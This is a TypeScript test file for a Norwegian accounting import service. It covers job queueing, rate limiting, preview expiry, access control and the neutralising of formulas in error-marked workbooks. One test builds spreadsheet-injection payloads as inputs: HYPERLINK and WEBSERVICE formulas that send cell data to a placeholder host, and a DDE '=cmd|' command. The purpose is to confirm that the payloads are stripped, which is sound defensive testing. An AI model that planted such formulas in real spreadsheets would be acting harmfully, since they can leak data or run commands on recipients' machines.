import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { createTestContext, type TestContext } from '../support/app.ts';
import { loginAgent } from '../support/agent.ts';
import { createTjeneste } from '../support/factories.ts';
import { buildWorkbook, csvBytes } from '../support/workbooks.ts';
import { importJobs, WORKER_THREADS } from '../../server/imports/import.jobs.ts';
import { binaryParser, upload, uploadAndPreview, waitForPreview } from './import-helpers.ts';

// Heavy jobs (reading and marking files) run in worker threads behind one queue: at most one per user, «kø» shown.

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext();
});
afterAll(() => ctx.close());

/** A job in the app's own queue that holds its slot until released: makes «busy» and «queued» deterministic. */
function holdSlot(owner: string) {
  let release!: () => void;
  const held = new Promise<void>((resolve) => (release = resolve));
  let started!: () => void;
  const running = new Promise<void>((resolve) => (started = resolve));
  const done = importJobs().queue.submit(owner, `test-hold:${owner}:${Math.random()}`, () => {
    started();
    return held;
  });
  return { release, running, done };
}

async function errorFile() {
  return buildWorkbook([
    {
      name: 'Art',
      rows: [
        ['Kode', 'Navn'],
        ['10100', 'Fastlønn'],
        ['1O500', 'Annen lønn'],
      ],
    },
  ]);
}

async function xlsxCells(bytes: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const formulas: string[] = [];
  const texts: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((c) => {
        const v = c.value;
        if (v !== null && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v || 'hyperlink' in v)) formulas.push(JSON.stringify(v));
        else texts.push(String(v ?? ''));
      }),
    ),
  );
  return { wb, formulas, texts };
}

describe('import: heavy jobs in worker threads', () => {
  it('when the user already has a heavy job running, then «Last ned med feilmarkering» is refused with 429 and a message; once it is done, the download works', async () => {
    const t = await createTjeneste(ctx.db);
    const { agent, csrf } = await loginAgent(ctx.app, t.users.regnskap.email);
    const { location } = await uploadAndPreview(agent, t.slug, 'kontoplan', await errorFile(), 'feil.xlsx', await csrf());
    const hold = holdSlot(`user:${t.users.regnskap.id}`);
    await hold.running;
    const refused = await agent.get(`${location}/feilmarkering.xlsx`);
    expect(refused.status).toBe(429);
    expect(refused.text).toContain('Du har allerede en fil som leses eller markeres. Vent til den er ferdig, og prøv igjen.');
    // another user of the same tjeneste is not refused: their job waits for a free thread
    const other = await loginAgent(ctx.app, t.users.admin.email);
    const otherDownload = other.agent
      .get(`${location}/feilmarkering.xlsx`)
      .buffer(true)
      .parse(binaryParser)
      .then((r) => r.status);
    hold.release();
    await hold.done;
    expect(await otherDownload).toBe(200);
    const ok = await agent.get(`${location}/feilmarkering.xlsx`).buffer(true).parse(binaryParser);
    expect(ok.status).toBe(200);
  });

  it('when three downloads of the same user arrive at once, then one is built and the others are refused, never run side by side', async () => {
    const t = await createTjeneste(ctx.db);
    const { agent, csrf } = await loginAgent(ctx.app, t.users.regnskap.email);
    const { location } = await uploadAndPreview(agent, t.slug, 'kontoplan', await errorFile(), 'feil.xlsx', await csrf());
    // a held job of another user keeps every slot busy, so all three are in line at the same moment
    const holds = Array.from({ length: WORKER_THREADS }, (_, i) => holdSlot(`test-other-${i}`));
    await Promise.all(holds.map((h) => h.running));
    const answers = [
      agent
        .get(`${location}/feilmarkering.xlsx`)
        .buffer(true)
        .parse(binaryParser)
        .then((r) => r.status),
    ];
    // the first is queued before the others are sent
    for (let i = 0; i < 50 && !importJobs().queue.hasJob(`user:${t.users.regnskap.id}`); i++) await new Promise((r) => setTimeout(r, 20));
    answers.push(
      agent.get(`${location}/feilmarkering.xlsx`).then((r) => r.status),
      agent.get(`${location}/feilmarkering.xlsx`).then((r) => r.status),
    );
    const later = await Promise.all(answers.slice(1));
    expect(later).toEqual([429, 429]);
    for (const h of holds) h.release();
    expect(await answers[0]).toBe(200);
  });

  it('when the preview has expired, then its marked workbook is gone too (404)', async () => {
    const t = await createTjeneste(ctx.db);
    const { agent, csrf } = await loginAgent(ctx.app, t.users.regnskap.email);
    const { location } = await uploadAndPreview(agent, t.slug, 'kontoplan', await errorFile(), 'feil.xlsx', await csrf());
    const id = location.split('/').pop()!;
    await ctx.db
      .updateTable('pending_import')
      .set({ expires_at: new Date(Date.now() - 1000) })
      .where('id', '=', id)
      .execute();
    const res = await agent.get(`${location}/feilmarkering.xlsx`);
    expect(res.status).toBe(404);
    expect(res.text).toContain('Forhåndsvisningen finnes ikke lenger');
  });

  it('when a lesetilgang user asks for the marked workbook, then 403 and no job is started', async () => {
    const t = await createTjeneste(ctx.db);
    const { agent, csrf } = await loginAgent(ctx.app, t.users.regnskap.email);
    const { location, html } = await uploadAndPreview(agent, t.slug, 'kontoplan', await errorFile(), 'feil.xlsx', await csrf());
    expect(html).toContain('Last ned med feilmarkering</a>');
    const reader = await loginAgent(ctx.app, t.users.lesetilgang.email);
    const page = await reader.agent.get(location);
    expect(page.text).not.toContain('Last ned med feilmarkering</a>');
    expect((await reader.agent.get(`${location}/feilmarkering.xlsx`)).status).toBe(403);
  });

  it('when every worker thread is busy, then an upload waits in line and its preview says «kø» with its place, then is read', async () => {
    const t = await createTjeneste(ctx.db);
    const { agent, csrf } = await loginAgent(ctx.app, t.users.regnskap.email);
    const holds = Array.from({ length: WORKER_THREADS }, (_, i) => holdSlot(`test-busy-${i}`));
    await Promise.all(holds.map((h) => h.running));
    const res = await upload(agent, t.slug, 'kontoplan', await errorFile(), 'feil.xlsx', await csrf());
    expect(res.status).toBe(303);
    const location = res.headers.location as string;
    const queued = await agent.get(location);
    expect(queued.status).toBe(200);
    expect(queued.text).toContain('Filen leses …');
    expect(queued.text).toContain('Den står i kø som nr. 1');
    expect(queued.text).toContain('<meta http-equiv="refresh" content="2">');
    for (const h of holds) h.release();
    const html = await waitForPreview(agent, location);
    expect(html).toContain('Filen har 1 feil og kan ikke lagres');
  });

  it('when an uploaded workbook holds HYPERLINK, WEBSERVICE and DDE formulas and a CSV holds =cmd|…, then the marked workbooks carry no formula and the text neutralised', async () => {
    const t = await createTjeneste(ctx.db);
    const { agent, csrf } = await loginAgent(ctx.app, t.users.regnskap.email);
    const token = await csrf();
    const xlsx = await buildWorkbook([
      {
        name: 'Art',
        rows: [
          ['Kode', 'Navn'],
          ['1O100', { formula: 'HYPERLINK("http://example.invalid/?d="&A3,"klikk")', result: 'klikk' }],
          ['10500', { formula: 'WEBSERVICE("http://example.invalid/"&A2)', result: 'svar' }],
          ['10600', { formula: "cmd|' /C calc'!A0", result: 'dde' }],
        ],
      },
    ]);
    const a = await uploadAndPreview(agent, t.slug, 'kontoplan', xlsx, 'formler.xlsx', token);
    const markedXlsx = await agent.get(`${a.location}/feilmarkering.xlsx`).buffer(true).parse(binaryParser);
    expect(markedXlsx.status).toBe(200);
    const fromXlsx = await xlsxCells(markedXlsx.body as Buffer);
    expect(fromXlsx.formulas).toEqual([]);
    expect(fromXlsx.texts).toEqual(expect.arrayContaining(['klikk', 'svar', 'dde']));

    const csv = csvBytes("Kode;Navn\n1O100;=cmd|' /C calc'!A0\n10500;@SUM(A1)\n", { encoding: 'utf8' });
    const b = await uploadAndPreview(agent, t.slug, 'kontoplan', csv, 'formler.csv', token);
    const markedCsv = await agent.get(`${b.location}/feilmarkering.xlsx`).buffer(true).parse(binaryParser);
    expect(markedCsv.status).toBe(200);
    const fromCsv = await xlsxCells(markedCsv.body as Buffer);
    expect(fromCsv.formulas).toEqual([]);
    expect(fromCsv.texts).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'@SUM(A1)"]));
    expect(fromCsv.texts.filter((x) => /^[=+\-@]/.test(x))).toEqual([]);
  });
});
